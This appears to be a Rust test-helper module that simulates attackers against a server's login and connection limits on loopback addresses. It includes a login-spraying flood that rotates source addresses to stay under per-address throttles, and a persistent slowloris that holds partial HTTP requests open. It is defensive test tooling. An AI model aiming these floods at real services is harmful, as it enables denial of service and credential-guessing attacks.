//! Attackers for issue 33's starvation findings: a login flood from many
//! addresses and idle connections that hold places. Every 127.0.0.0/8 address
//! reaches a loopback listener, so one test plays many source addresses, which
//! the per-address limits count separately.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

/// Wrong logins one flood address sends before the flood moves to a fresh
/// one: under its budget (100 per 15 min), so that a rotating flood is never
/// throttled, like a botnet's.
const PER_ADDRESS: u64 = 90;

/// A connection from `from` to `to`.
pub async fn connect_from(from: Ipv4Addr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((from, 0)))?;
    socket.connect(to).await
}

/// Sends `request` from `from` on a connection of its own and answers the
/// status, or `None` if the server closed or reset it unanswered.
pub async fn status_from(from: Ipv4Addr, to: SocketAddr, request: &[u8]) -> Option<u16> {
    let mut stream = connect_from(from, to).await.ok()?;
    stream.write_all(request).await.ok()?;
    let mut head = [0u8; 12];
    let read = tokio::time::timeout(Duration::from_secs(30), stream.read_exact(&mut head));
    read.await.ok()?.ok()?;
    std::str::from_utf8(&head[9..12]).ok()?.parse().ok()
}

/// A login request that closes its connection after the answer.
pub fn login_request(username: &str, password: &str) -> Vec<u8> {
    let body = serde_json::json!({"username": username, "password": password}).to_string();
    format!(
        "POST /api/v1/internal/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// A GET that closes its connection after the answer.
pub fn get_request(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").into_bytes()
}

/// What a flood sent and how it was answered.
#[derive(Debug, Default, Clone, Copy)]
pub struct Counted {
    pub sent: u64,
    /// Hashed and refused (401).
    pub hashed: u64,
    /// Refused before hashing (429: busy or throttled).
    pub refused: u64,
}

/// Wrong logins under ever new usernames, back to back, from `workers` tasks.
pub struct LoginFlood {
    stop: CancellationToken,
    tasks: JoinSet<Counted>,
    gauges: Arc<Gauges>,
}

/// Running totals of all workers.
#[derive(Default)]
struct Gauges {
    sent: AtomicU64,
    hashed: AtomicU64,
}

/// Where a flood's logins come from.
#[derive(Debug, Clone, Copy)]
pub enum Sources {
    /// This many addresses, 127.0.10.1 ..= 127.0.10.n, the workers spread
    /// over them: the attack as reported (a dozen).
    Fixed(u8),
    /// A fresh address every [`PER_ADDRESS`] logins, 127.<20 + worker>.x.y:
    /// never throttled.
    Rotating,
}

impl LoginFlood {
    pub fn start(core: SocketAddr, workers: u8, sources: Sources) -> Self {
        let (stop, gauges) = (CancellationToken::new(), Arc::<Gauges>::default());
        let mut tasks = JoinSet::new();
        for worker in 0..workers {
            let (stop, gauges) = (stop.clone(), gauges.clone());
            tasks.spawn(flood_worker(core, worker, sources, stop, gauges));
        }
        Self {
            stop,
            tasks,
            gauges,
        }
    }

    /// Logins sent so far, all workers together.
    pub fn sent(&self) -> u64 {
        self.gauges.sent.load(Ordering::Relaxed)
    }

    /// Of those, the ones core hashed (401).
    pub fn hashed(&self) -> u64 {
        self.gauges.hashed.load(Ordering::Relaxed)
    }

    pub async fn stop(mut self) -> Counted {
        self.stop.cancel();
        let mut total = Counted::default();
        while let Some(Ok(c)) = self.tasks.join_next().await {
            total.sent += c.sent;
            total.hashed += c.hashed;
            total.refused += c.refused;
        }
        total
    }
}

async fn flood_worker(
    core: SocketAddr,
    worker: u8,
    sources: Sources,
    stop: CancellationToken,
    gauges: Arc<Gauges>,
) -> Counted {
    let mut counted = Counted::default();
    while !stop.is_cancelled() {
        // A new name each time (spraying): no (name, address) pair's backoff
        // slows the flood, only the address's budget.
        let request = login_request(&format!("user-{worker}-{}", counted.sent), "a guess");
        let from = match sources {
            Sources::Fixed(n) => Ipv4Addr::new(127, 0, 10, worker % n.max(1) + 1),
            Sources::Rotating => rotating(worker, counted.sent / PER_ADDRESS),
        };
        let status = status_from(from, core, &request).await;
        counted.sent += 1;
        gauges.sent.fetch_add(1, Ordering::Relaxed);
        match status {
            Some(401) => {
                counted.hashed += 1;
                gauges.hashed.fetch_add(1, Ordering::Relaxed);
            }
            Some(429) => counted.refused += 1,
            _ => {}
        }
    }
    counted
}

/// The `n`th address of a rotating worker.
fn rotating(worker: u8, n: u64) -> Ipv4Addr {
    let (hi, lo) = ((n / 250 % 256) as u8, (n % 250) as u8 + 1);
    Ipv4Addr::new(127, 20 + worker, hi, lo)
}

/// Idle connections that send a partial request head and nothing more, each
/// opened again 50 ms after the server closes it (a slowloris that lasts).
pub struct IdleFlood {
    stop: CancellationToken,
    tasks: JoinSet<()>,
    open: Arc<AtomicU64>,
}

impl IdleFlood {
    /// `per_address` connections from each of 127.0.30.1 ..= 127.0.30.`addresses`.
    pub fn start(target: SocketAddr, addresses: u8, per_address: usize) -> Self {
        let (stop, open) = (CancellationToken::new(), Arc::new(AtomicU64::new(0)));
        let mut tasks = JoinSet::new();
        for a in 1..=addresses {
            for _ in 0..per_address {
                let (stop, open) = (stop.clone(), open.clone());
                let from = Ipv4Addr::new(127, 0, 30, a);
                tasks.spawn(hold_idle(from, target, stop, open));
            }
        }
        Self { stop, tasks, open }
    }

    /// Connections the server holds for the flood right now.
    pub fn open(&self) -> u64 {
        self.open.load(Ordering::Relaxed)
    }

    pub async fn stop(mut self) {
        self.stop.cancel();
        while self.tasks.join_next().await.is_some() {}
    }
}

async fn hold_idle(from: Ipv4Addr, to: SocketAddr, stop: CancellationToken, open: Arc<AtomicU64>) {
    while !stop.is_cancelled() {
        if let Ok(mut stream) = connect_from(from, to).await {
            if stream
                .write_all(b"GET / HTTP/1.1\r\nX-Slow: ")
                .await
                .is_ok()
            {
                open.fetch_add(1, Ordering::Relaxed);
                let mut buf = [0u8; 256];
                tokio::select! {
                    _ = async { while let Ok(1..) = stream.read(&mut buf).await {} } => {}
                    _ = stop.cancelled() => {}
                }
                open.fetch_sub(1, Ordering::Relaxed);
            }
        }
        tokio::select! {
            _ = tokio::time::sleep(Duration::from_millis(50)) => {}
            _ = stop.cancelled() => {}
        }
    }
}
